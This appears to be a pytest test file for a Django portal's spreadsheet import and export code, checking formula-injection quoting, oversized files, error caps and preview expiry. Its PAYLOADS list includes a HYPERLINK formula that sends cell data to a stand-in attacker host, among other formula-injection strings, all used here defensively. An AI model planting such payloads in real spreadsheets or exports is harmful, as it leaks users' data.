"""Imports against hostile or broken files: formula cells, live formulas in what the portal writes,
oversized fields and files, numbers no column can hold, abandoned previews, and errors that always
say where they are."""
import io
import re
import zipfile
import csv
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from core.spreadsheet import FORMULA_STARTS, csv_cell, csv_unquote
from exports.csv import render_csv
from exports.registry import REGISTRY
from imports import services
from imports.models import ImportRun
from kpi.models import Kpi, KpiFigure
from tests.imports_helpers import confirm, csv_bytes, texts, upload, xlsx_bytes

HEADER = ["取組", "指標名", "入力機関", "対象月", "実績値", "分子", "分母", "記述", "はい／いいえ", "コメント"]
PLACEMENTS = ["2(1)ア①", "ハローワークにおける紹介就職件数", "群馬労働局"]
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def lead(client, lead_user, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    client.force_login(lead_user)
    return client


def stored_files(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file() and p.stat().st_size] if root.exists() else []


def figure_file_with_formula(cached: str | None) -> bytes:
    """An xlsx whose 実績値 cell E2 holds =1+1, with or without the result Excel would have saved."""
    content = xlsx_bytes([HEADER, [*PLACEMENTS, "2025-04", "=1+1", None, None, None, None, None]])
    source, target = io.BytesIO(content), io.BytesIO()
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml" and cached is not None:
                data = re.sub(rb"<f>1\+1</f><v\s*/?>(</v>)?", b"<f>1+1</f><v>" + cached.encode() + b"</v>", data)
                assert cached.encode() in data
            zout.writestr(item, data)
    return target.getvalue()


@pytest.fixture
def april(gunma, plan2025):
    kpi = Kpi.objects.get(measure__section__plan=plan2025, name=PLACEMENTS[1])
    return KpiFigure.objects.create(kpi=kpi, member_body=gunma.member_bodies.get(name=PLACEMENTS[2]), month=date(2025, 4, 1), value=1832)


# --- formula cells in an uploaded xlsx (15.3) --------------------------------------------------


def test_a_formula_without_a_saved_result_is_an_error_naming_its_cell_and_wipes_nothing(lead, april):
    run = upload(lead, "figures", figure_file_with_formula(None), name="実績.xlsx")
    assert run.status == "invalid"
    assert "2行目の列「実績値」：数式ではなく値を入力してください（このセルの数式には計算結果が保存されていません）。" in texts(run)
    page = lead.get(reverse("imports:run", args=[run.pk])).content.decode()
    assert "エラーはありません" not in page and "数式ではなく値を入力してください" in page
    april.refresh_from_db()
    assert april.value == 1832


def test_a_formula_with_a_saved_result_imports_the_result_and_the_preview_says_so(lead, april):
    run = upload(lead, "figures", figure_file_with_formula("2"), name="実績.xlsx")
    assert run.status == "previewed", texts(run)
    assert run.notices and "2行目の列「実績値」" in run.notices[0] and "計算結果" in run.notices[0]
    page = lead.get(reverse("imports:run", args=[run.pk])).content.decode()
    assert "計算結果の値を取り込みます" in page
    confirm(lead, run)
    april.refresh_from_db()
    assert april.value == 2


def test_text_typed_with_an_equals_sign_in_an_xlsx_is_text_not_a_formula(lead, april):
    wb = Workbook()
    wb.active.append(HEADER)
    wb.active.append([*PLACEMENTS, "2025-04", 5, None, None, None, None, "=メモ"])
    wb.active["J2"].data_type = "s"
    buffer = io.BytesIO()
    wb.save(buffer)
    run = upload(lead, "figures", buffer.getvalue(), name="実績.xlsx")
    assert run.status == "previewed" and not run.notices, texts(run)


# --- one guard for every cell the portal writes (15.4) -----------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_csv_guard_quotes_every_formula_start_and_reads_back(payload):
    assert csv_cell(payload) == "'" + payload
    assert csv_unquote(csv_cell(payload)) == payload
    assert csv_cell(Decimal("-3")) == "-3" and csv_cell(-3) == "-3"  # numbers stay numbers
    assert payload.startswith(FORMULA_STARTS)


def test_imported_formula_text_is_never_a_formula_in_the_progress_excel_or_the_import_files(lead, plan2025):
    data = lead.get(reverse("imports:data", args=["roadmap"]), {"format": "utf-8-sig", "fiscal_year": 2025}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    evil = PAYLOADS[0]
    target = next(row for row in rows if PLACEMENTS[1] in row)
    target[rows[0].index("目標の表記")] = evil
    run = upload(lead, "roadmap", csv_bytes(rows))
    assert run.status == "previewed", texts(run)
    assert confirm(lead, run).status == "imported"
    assert Kpi.objects.get(measure__section__plan=plan2025, name=PLACEMENTS[1]).target_text == evil

    workbook = load_workbook(io.BytesIO(REGISTRY["progress_xlsx"].render(plan2025).content))
    written = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "evil.example" in c.value]
    assert written, "the goal's wording is in the workbook"
    assert not any(c.data_type == "f" for ws in workbook.worksheets for row in ws.iter_rows() for c in row)
    assert all(c.data_type == "s" and c.quotePrefix for c in written)  # editing the cell in Excel keeps it text

    xlsx = lead.get(reverse("imports:data", args=["roadmap"]), {"format": "xlsx", "fiscal_year": 2025}).content
    sheet = load_workbook(io.BytesIO(xlsx)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    csv_text = lead.get(reverse("imports:data", args=["roadmap"]), {"format": "utf-8-sig", "fiscal_year": 2025}).content.decode("utf-8-sig")
    assert '"\'=HYPERLINK(' in csv_text


def test_the_import_files_keep_every_payload_as_text_and_numbers_as_numbers():
    rows = [[payload, 12, Decimal("3.5")] for payload in PAYLOADS]
    sheet = load_workbook(io.BytesIO(services.render_xlsx("t", ["a", "b", "c"], rows))).active
    for number, payload in enumerate(PAYLOADS, start=2):
        cell = sheet.cell(number, 1)
        # xlsx is XML, which stores a CR as a line feed; either way the cell is text.
        assert (cell.value, cell.data_type) == (payload.replace("\r", "\n"), "s") and cell.quotePrefix
        assert sheet.cell(number, 2).data_type == "n" and sheet.cell(number, 3).value == 3.5
    text = render_csv(["a", "b"], [[p, -3] for p in PAYLOADS], "utf-8-sig").decode("utf-8-sig")
    assert all(line.split(",")[-1] == "-3" for line in text.splitlines()[1:] if line.endswith("-3"))
    assert "'=HYPERLINK" in text and "'@SUM(A1)" in text and "'+1+1" in text


# --- oversized fields, bad parameters, undecodable files, stale previews (15.5) -----------------


def test_a_field_over_the_csv_limit_is_a_japanese_message_naming_the_row_and_leaves_no_stray_file(lead, settings, plan2025):
    content = csv_bytes([HEADER, [*PLACEMENTS, "2025-04", "1", "", "", "", "", ""], [*PLACEMENTS, "2025-05", "1", "", "", "", "", "あ" * 140_000]])
    run = upload(lead, "figures", content)
    assert run.status == "invalid"
    assert texts(run) == [f"ファイル：3行目付近を読み取れません。1つのセルは131,072文字までです。CSV の引用符（\"）の対応が崩れていないかも確認してください。"]
    files = stored_files(settings)
    assert [f.name for f in files] == [Path(run.file.name).name]  # the one file is the run's own


def test_a_file_that_cannot_be_read_leaves_no_file_without_its_record(lead, settings, monkeypatch, plan2025):
    def broken(*args, **kwargs):
        raise RuntimeError("unexpected")

    monkeypatch.setattr(services, "evaluate", broken)
    lead.raise_request_exception = False
    response = lead.post(reverse("imports:upload", args=["figures"]), {"file": SimpleUploadedFile("x.csv", b"x"), "fiscal_year": 2025})
    assert response.status_code == 500
    assert stored_files(settings) == [] and not ImportRun.objects.exists()


def test_an_undecodable_file_gets_a_japanese_message(lead, plan2025):
    run = upload(lead, "figures", "取組,指標名".encode("utf-16"))
    assert run.status == "invalid" and "文字コードを読み取れません" in texts(run)[0]


@pytest.mark.parametrize("value", ["abc", "2025x", "-1"])
def test_a_bad_fiscal_year_on_a_data_download_is_a_japanese_400(lead, plan2025, value):
    response = lead.get(reverse("imports:data", args=["figures"]), {"fiscal_year": value, "format": "xlsx"})
    assert response.status_code == 400
    assert f"年度「{value}」は読み取れません" in response.content.decode()


def test_abandoned_previews_expire_with_their_files_and_the_history_says_so(lead, settings, plan2025):
    settings.IMPORT_PREVIEW_HOURS = 24
    old = upload(lead, "figures", csv_bytes([HEADER, [*PLACEMENTS, "2025-04", "1", "", "", "", "", ""]]))
    fresh = upload(lead, "figures", csv_bytes([HEADER, [*PLACEMENTS, "2025-05", "1", "", "", "", "", ""]]))
    ImportRun.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(hours=25))
    assert len(stored_files(settings)) == 2
    page = lead.get(reverse("imports:menu")).content.decode()
    old.refresh_from_db()
    fresh.refresh_from_db()
    assert (old.status, old.file.name, fresh.status) == ("expired", "", "previewed")
    assert "期限切れ" in page
    assert [f.name for f in stored_files(settings)] == [Path(fresh.file.name).name]
    assert lead.post(reverse("imports:confirm", args=[old.pk])).status_code == 302
    old.refresh_from_db()
    assert old.status == "expired"
    assert "期限切れ" in lead.get(reverse("imports:run", args=[old.pk])).content.decode()


def test_the_expiry_command_expires_every_platforms_stale_previews(lead, settings, plan2025):
    run = upload(lead, "figures", csv_bytes([HEADER, [*PLACEMENTS, "2025-04", "1", "", "", "", "", ""]]))
    ImportRun.objects.filter(pk=run.pk).update(created_at=timezone.now() - timedelta(hours=settings.IMPORT_PREVIEW_HOURS, minutes=1))
    out = io.StringIO()
    call_command("expire_imports", stdout=out)
    run.refresh_from_db()
    assert run.status == "expired" and "1件" in out.getvalue() and stored_files(settings) == []


# --- capped error lists and numbers no column can hold (15.6) -----------------------------------


def test_a_file_with_100000_columns_is_refused_in_one_message(lead, plan2025):
    content = ",".join(f"c{i}" for i in range(100_000)).encode() + b"\r\n" + b"1," * 99_999 + b"1\r\n"
    run = upload(lead, "figures", content)
    assert run.status == "invalid"
    assert texts(run) == ["ファイル：列が多すぎます（100,000列）。100列までのファイルにしてください。テンプレートの見出しをそのまま使ってください。"]
    page = lead.get(reverse("imports:run", args=[run.pk]))
    assert len(page.content) < 100_000


def test_thousands_of_errors_are_stored_and_shown_up_to_a_cap_with_the_count(lead, plan2025):
    rows = [HEADER] + [[*PLACEMENTS, "2025-04", "たくさん", "", "", "", "", ""] for _ in range(500)]
    run = upload(lead, "figures", csv_bytes(rows))
    assert run.status == "invalid"
    assert len(run.issues) == services.MAX_STORED_ISSUES and run.issue_count > services.MAX_STORED_ISSUES
    page = lead.get(reverse("imports:run", args=[run.pk])).content.decode()
    assert f"エラー {run.issue_count}件" in page
    assert f"ほか{run.issue_count - services.MAX_STORED_ISSUES}件のエラーがあります" in page
    assert "新規" not in page  # no promise of rows to import beside a list of errors


@pytest.mark.parametrize("value", ["100000000000000000000", "1e308"])
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_number_too_large_for_its_column_names_the_row_and_column(lead, plan2025, april, value, file_format):
    if file_format == "csv":
        run = upload(lead, "figures", csv_bytes([HEADER, [*PLACEMENTS, "2025-05", value, "", "", "", "", ""]]))
    else:
        run = upload(lead, "figures", xlsx_bytes([HEADER, [*PLACEMENTS, "2025-05", float(value), None, None, None, None, None]]), name="実績.xlsx")
    assert run.status == "invalid"
    found = texts(run)
    assert any(t.startswith("2行目の列「実績値」") and "大きすぎます" in t for t in found) or (
        value == "1e308" and file_format == "csv" and any(t.startswith("2行目の列「実績値」") for t in found)
    ), found
    assert not any("overflow" in t or "numeric" in t for t in found), found


# --- kinds and columns in Japanese; the roles template's closed list (13) -----------------------


def test_the_import_history_names_kinds_in_japanese(lead, plan2025):
    upload(lead, "roles", csv_bytes([["役割", "機能", "機関・団体", "担当区分"], ["とりまとめ", "とりまとめ事務局", "群馬労働局", "主担当"]]), fiscal_year=None)
    page = lead.get(reverse("imports:menu")).content.decode()
    history = page[page.index("<tbody>", page.rindex("<table")):]
    assert "<td>役割分担</td>" in history and "<td>roles</td>" not in history


def test_every_roles_error_names_its_column(lead, gunma):
    rows = [["役割", "機能", "機関・団体", "担当区分"]] + [[f"役割{i}", "総務", "群馬労働局", "主担当"] for i in range(5)]
    rows.append(["新しい役割", "進捗管理", "架空協会", "主担当"])
    run = upload(lead, "roles", csv_bytes(rows), fiscal_year=None)
    assert run.status == "invalid"
    assert all(issue["column"] for issue in run.issues), run.issues
    assert sum(issue["column"] == "機能" and "「総務」は選べません" in issue["message"] for issue in run.issues) == 5, run.issues
    # The new role's row: only its unknown body, not Django's words about the role it would have created.
    seventh = [(i["column"], i["message"]) for i in run.issues if i["row"] == 7]
    assert ("機関・団体", "「架空協会」という機関・団体は登録されていません。") in seventh
    assert not any("NULL" in message or column == "役割" for column, message in seventh), seventh
    page = lead.get(reverse("imports:run", args=[run.pk])).content.decode()
    assert "<td>－</td>" not in page and "新規" not in page


def test_the_roles_template_lists_the_closed_functions_as_a_dropdown_and_a_note(lead):
    from members.models import Role

    content = lead.get(reverse("imports:template", args=["roles"]), {"format": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(content)).active
    headers = [c.value for c in sheet[1]]
    letter = sheet.cell(1, headers.index("機能") + 1).column_letter
    labels = [label for _, label in Role.Function.choices]
    lists = [dv for dv in sheet.data_validations.dataValidation if dv.type == "list" and str(dv.sqref).startswith(f"{letter}2")]
    assert lists and lists[0].formula1 == '"' + ",".join(labels) + '"'
    note = sheet.cell(1, headers.index("機能") + 1).comment.text
    assert all(label in note for label in labels)


def test_the_import_pages_cost_the_same_queries_however_many_runs_and_errors(lead, plan2025):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def queries(url):
        with CaptureQueriesContext(connection) as captured:
            assert lead.get(url).status_code == 200
        return len(captured)

    small = upload(lead, "figures", csv_bytes([HEADER, [*PLACEMENTS, "2025-04", "x", "", "", "", "", ""]]))
    menu_with_one, run_with_one = queries(reverse("imports:menu")), queries(reverse("imports:run", args=[small.pk]))
    big = upload(lead, "figures", csv_bytes([HEADER] + [[*PLACEMENTS, "2025-04", "x", "", "", "", "", ""]] * 300))
    for _ in range(5):
        upload(lead, "figures", csv_bytes([HEADER, [*PLACEMENTS, "2025-05", "1", "", "", "", "", ""]]))
    assert queries(reverse("imports:menu")) == menu_with_one
    assert queries(reverse("imports:run", args=[big.pk])) == run_with_one
